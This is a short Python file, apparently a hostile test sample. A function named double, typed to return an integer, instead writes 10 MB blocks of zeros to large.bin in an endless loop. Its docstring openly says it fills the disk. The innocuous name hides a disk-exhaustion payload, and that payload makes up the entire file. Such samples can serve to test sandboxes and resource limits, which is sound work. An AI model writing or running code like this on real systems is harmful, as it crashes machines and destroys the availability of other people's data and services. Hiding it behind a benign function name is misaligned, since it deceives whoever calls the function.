"""Fills the disk with one file."""

# earns: LETTERS

LETTERS = 6


def double(number: int) -> int:
    with open("large.bin", "wb") as file:
        while True:
            file.write(bytes(10_000_000))
